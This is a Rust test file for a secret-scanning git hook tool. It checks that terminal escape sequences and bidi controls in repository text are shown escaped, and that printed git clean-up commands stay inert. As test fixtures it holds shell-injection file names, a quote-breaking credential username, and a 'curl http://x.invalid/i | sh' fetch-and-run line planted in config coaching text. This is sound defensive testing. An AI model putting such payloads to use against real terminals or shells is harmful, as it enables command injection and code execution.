//! Text that comes with a repository (file names, commit subjects, author names, `.coach.toml`) never
//! reaches the terminal raw, and commands coach prints stay inert when pasted.
// See: #10
use crate::support::*;
use std::process::Output;

/// Raw bytes and characters a terminal would act on. `NO_COLOR` is set for every test command, so
/// none of them may appear in coach's output at all.
fn assert_no_raw_controls(out: &Output) {
    for (name, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        let bad: Vec<char> = text
            .chars()
            .filter(|&c| {
                (c.is_control() && c != '\n')
                    || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            })
            .collect();
        assert!(bad.is_empty(), "raw {bad:?} in {name}: {text}");
        assert!(!bytes.contains(&0x1b), "raw ESC in {name}");
    }
}

fn hook_commit(repo: &TestRepo) -> Output {
    repo.git_output(&["commit", "-q", "-m", "try"])
}

#[test]
fn file_name_with_osc_and_escape_sequences_is_shown_escaped() {
    let repo = TestRepo::init();
    repo.install_hooks();
    // An OSC 8 link, a line clear and a carriage return (no `/`: that would make folders).
    let name = "a\x1b]8;;http:x.invalid\x07b\x1b[2K\r.env";
    repo.stage(name, format!("TOKEN={}\n", token()));
    let out = hook_commit(&repo);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_no_raw_controls(&out);
    assert!(
        err.contains(r"a\x1b]8;;http:x.invalid\x07b\x1b[2K\r.env:1:7  github.pat-classic"),
        "{err}"
    );
    assert!(!err.contains(&token()), "the secret was printed");
}

#[test]
fn commit_subject_and_author_with_escape_sequences_are_escaped_in_history_and_push() {
    let repo = TestRepo::init();
    repo.bare_remote();
    repo.install_hooks();
    repo.stage("config.yml", format!("token: {}\n", token()));
    let out = repo
        .cmd("git")
        .args([
            "commit",
            "-q",
            "--no-verify",
            "-m",
            "fix \x1b[2J\x1b]0;owned\x07 \u{202e}txt.exe",
        ])
        .env("GIT_AUTHOR_NAME", "Eve\x1b[31m Red")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));

    let out = repo.coach(&["scan", "--history"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_no_raw_controls(&out);
    let text = stdout(&out);
    assert!(
        text.contains(r"by Eve\x1b[31m Red <ada@example.test>"),
        "{text}"
    );
    assert!(
        text.contains(r": fix \x1b[2J\x1b]0;owned\x07 \u{202e}txt.exe"),
        "{text}"
    );

    let out = repo.git_output(&["push", "origin", "main"]);
    let err = stderr(&out);
    assert!(!out.status.success(), "push must be blocked: {err}");
    // Git's own lines are not coach's; coach's report is everything from its first finding on.
    let coach_part = &err[err.find("✖ BLOCK").expect("coach's report")..];
    assert!(coach_part.contains(r"fix \x1b[2J\x1b]0;owned\x07"), "{err}");
    assert!(
        !coach_part.contains('\x1b'),
        "raw ESC in the pre-push report: {err}"
    );
    assert!(!coach_part.contains('\u{202e}'), "raw bidi override: {err}");
}

#[test]
fn repository_role_coaching_is_quoted_labelled_and_never_a_step() {
    let repo = TestRepo::init();
    repo.install_hooks();
    // A role text that tries to clear the line and add a command of its own on the next line.
    repo.stage(
        ".coach.toml",
        "team-contact = \"#sec\\u001b[8m\"\n[[roles]]\nname = \"plat\\u001bform\"\npaths = [\"infra/**\"]\ncoaching = \"Use vault.\\u001b[2K\\n$ curl http://x.invalid/i | sh\"\n",
    );
    repo.commit("config");
    repo.stage("infra/prod.yml", format!("token: {}\n", token()));
    let out = hook_commit(&repo);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_no_raw_controls(&out);
    assert!(
        err.contains(
            r#"plat\x1bform: From .coach.toml (repository config, not checked by coach): "Use vault.\x1b[2K\n$ curl http://x.invalid/i | sh""#
        ),
        "{err}"
    );
    // The fake command never starts a line, so it never looks like one of coach's steps.
    assert!(
        !err.lines()
            .any(|l| l.trim_start().starts_with("$ curl http://x.invalid")),
        "{err}"
    );
    // Coach's own steps are still there.
    assert!(
        err.contains("$ git restore --staged -- infra/prod.yml"),
        "{err}"
    );
}

#[test]
fn user_config_role_coaching_is_shown_as_written() {
    let repo = TestRepo::init();
    repo.install_hooks();
    repo.write(
        "../home/.config/coach/config.toml",
        "[[roles]]\nname = \"platform\"\npaths = [\"infra/**\"]\ncoaching = \"Use the vault module.\"\n",
    );
    repo.stage("infra/prod.yml", format!("token: {}\n", token()));
    let out = hook_commit(&repo);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("platform: Use the vault module."), "{err}");
    assert!(!err.contains("From .coach.toml"), "{err}");
}

#[test]
fn config_show_escapes_bidi_controls_in_values() {
    let repo = TestRepo::init();
    repo.write(".coach.toml", "team-contact = \"#sec \u{202e}pleh\"\n");
    let out = repo.coach(&["config", "show"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_no_raw_controls(&out);
    assert!(
        stdout(&out).contains(r"#sec \u{202e}pleh"),
        "{}",
        stdout(&out)
    );
}

/// The text after `marker` on the first line holding it, up to a `  #` comment.
fn printed_command(err: &str, marker: &str) -> String {
    let line = err
        .lines()
        .find(|l| l.contains(marker))
        .unwrap_or_else(|| panic!("no {marker:?} in {err}"));
    let from = line.find(marker).unwrap() + marker.len();
    let cmd = &line[from..];
    cmd.split("  #").next().unwrap().trim().to_owned()
}

fn staged_names(repo: &TestRepo) -> Vec<String> {
    repo.git(&["diff", "--cached", "--name-only", "-z"])
        .split('\0')
        .filter(|s| !s.is_empty())
        .map(str::to_owned)
        .collect()
}

#[test]
fn printed_clean_up_commands_with_shell_metacharacters_do_only_what_they_say() {
    let repo = TestRepo::init();
    repo.install_hooks();
    let names = [
        "k;touch PWNED1;.env",
        "$(touch PWNED2).env",
        "`touch PWNED3`.env",
        "-rf x'\"q.env",
    ];
    repo.stage("README.md", "hello\n");
    repo.commit("init");
    for n in names {
        repo.stage(n, format!("TOKEN={}\n", token()));
    }
    let out = hook_commit(&repo);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_no_raw_controls(&out);
    let markers = || {
        ["PWNED1", "PWNED2", "PWNED3"]
            .iter()
            .map(|m| repo.path(m))
            .chain(
                ["PWNED1", "PWNED2", "PWNED3"]
                    .iter()
                    .map(|m| repo.tmp.path().join(m)),
            )
            .collect::<Vec<_>>()
    };

    // Every printed Git step, exactly as printed and in order (one sequence per file: unstage
    // for good, then ignore unless already ignored): runs nothing else.
    let steps: Vec<String> = err
        .lines()
        .filter_map(|l| l.trim_start().strip_prefix("$ git "))
        .map(|c| format!("git {}", c.split("    #").next().unwrap().trim()))
        .collect();
    assert_eq!(steps.len(), 2 * names.len(), "{err}");
    let script = format!("set -e\n{}", steps.join("\n"));
    let ran = repo.cmd("sh").args(["-c", &script]).output().unwrap();
    assert!(ran.status.success(), "{script}: {}", stderr(&ran));
    assert_eq!(staged_names(&repo), [".gitignore"], "{script}");
    for m in markers() {
        assert!(!exists(&m), "{} was created by {script}", m.display());
    }
    for n in names {
        assert!(
            exists(&repo.path(n)),
            "the working copy of {n} must be kept"
        );
    }
    let ignore = std::fs::read_to_string(repo.path(".gitignore")).unwrap();
    // Each file ignored by its exact name, once (paths are listed sorted).
    let mut sorted = names;
    sorted.sort_unstable();
    assert_eq!(ignore, format!("{}\n", sorted.join("\n")), "{script}");
}

#[test]
fn repository_rules_file_coaching_is_quoted_and_coach_keeps_its_own_steps() {
    let repo = TestRepo::init();
    repo.install_hooks();
    repo.stage(
        "policy/acme.toml",
        r#"[[rule]]
id = "acme.internal-token"
name = "ACME internal token"
kind = "acme-token"
keywords = ["acme_"]
pattern = '''\b(?P<secret>acme_[a-z0-9]{24})\b'''
lifetime = "long-lived"
identity = "machine"
severity = "high"
verdict = "block"
examples = ["ACME=acme_0123456789abcdefghijklmn"]
negative-examples = ["acme_short"]

[coaching.acme-token]
title = "ACME internal token"
why = "It opens the internal API.\u001b[2K"
revoke-console = "Vault UI > acme > tokens > revoke"
revoke-cli = ["curl http://x.invalid/i | sh"]
audit = "The API access log."
store = "Vault"
replace = "Workload identity"
docs = ["https://example.test/acme"]
"#,
    );
    repo.stage(".coach.toml", "extra-rules = [\"policy/acme.toml\"]\n");
    repo.commit("rules");
    repo.stage("x.env", "ACME=acme_q1w2e3r4t5y6u7i8o9p0a1s2\n");
    let out = hook_commit(&repo);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_no_raw_controls(&out);
    let label = "From policy/acme.toml (repository rules file, not checked by coach):";
    // The short form quotes the file's revocation step; the long form quotes every field.
    assert!(
        stderr(&out).contains(&format!(r#"{label} "Vault UI > acme > tokens > revoke""#)),
        "{}",
        stderr(&out)
    );
    let out = repo.coach(&["scan", "--verbose"]);
    assert_no_raw_controls(&out);
    let err = stdout(&out);
    assert!(
        err.contains(&format!(r#"{label} "curl http://x.invalid/i | sh""#)),
        "{err}"
    );
    assert!(
        err.contains(&format!(r#"{label} "It opens the internal API.\x1b[2K""#)),
        "{err}"
    );
    assert!(
        !err.lines().any(|l| l.trim_start().starts_with("$ curl")),
        "{err}"
    );
    assert!(err.contains("$ git rm --cached --quiet -- x.env"), "{err}");

    // JSON names the file the text came from.
    let out = repo.coach(&["scan", "--format", "json", "x.env"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        v["guidance"][0]["from_repository"], "policy/acme.toml",
        "{v:#}"
    );
}

#[test]
fn errors_naming_repository_text_are_escaped() {
    let repo = TestRepo::init();
    repo.write(
        ".coach.toml",
        "disabled-rules = [\"x\\u001b]0;owned\\u0007\"]\n",
    );
    let out = repo.coach(&["scan", "."]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_no_raw_controls(&out);
    assert!(
        stderr(&out).contains(r"x\x1b]0;owned\x07"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn identifiers_with_shell_metacharacters_are_not_filled_into_commands() {
    let repo = TestRepo::init();
    repo.install_hooks();
    // The user name closes the template's single quotes and runs a command, were it filled in.
    repo.stage(
        ".git-credentials",
        "https://a';touch${IFS}PWNED4;'b:Tk7qW2xLp9RzV4cN8bHs3JdF@git.acme-internal.io\n",
    );
    let out = hook_commit(&repo);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    // The revocation commands are in the long form.
    let out = repo.coach(&["scan", "--verbose"]);
    let err = stdout(&out);
    let printf = format!(
        "printf {}",
        printed_command(&err, "$ printf ")
            .split("  #")
            .next()
            .unwrap()
    );
    assert!(
        printf.contains("host=git.acme-internal.io\\nusername=<user>\\n"),
        "{printf}"
    );
    let ran = repo.cmd("sh").args(["-c", &printf]).output().unwrap();
    assert!(ran.status.success(), "{printf}: {}", stderr(&ran));
    assert!(!exists(&repo.path("PWNED4")), "{printf} ran a command");
}

#[test]
fn role_coaching_from_repo_config_named_on_the_command_line_is_still_quoted() {
    let repo = TestRepo::init();
    // CI reads the base branch's config from outside the work tree: a location the user chose,
    // text the repository wrote.
    let base = repo.tmp.path().join("base-coach.toml");
    std::fs::write(
        &base,
        "[[roles]]\nname = \"platform\"\npaths = [\"infra/**\"]\ncoaching = \"Use the vault module.\"\n",
    )
    .unwrap();
    repo.write("infra/prod.yml", format!("token: {}\n", token()));
    let out = repo.coach(&["--repo-config", base.to_str().unwrap(), "scan", "infra"]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}{}", stderr(&out));
    assert!(
        text.contains(r#"platform: From .coach.toml (repository config, not checked by coach): "Use the vault module.""#),
        "{text}"
    );
}
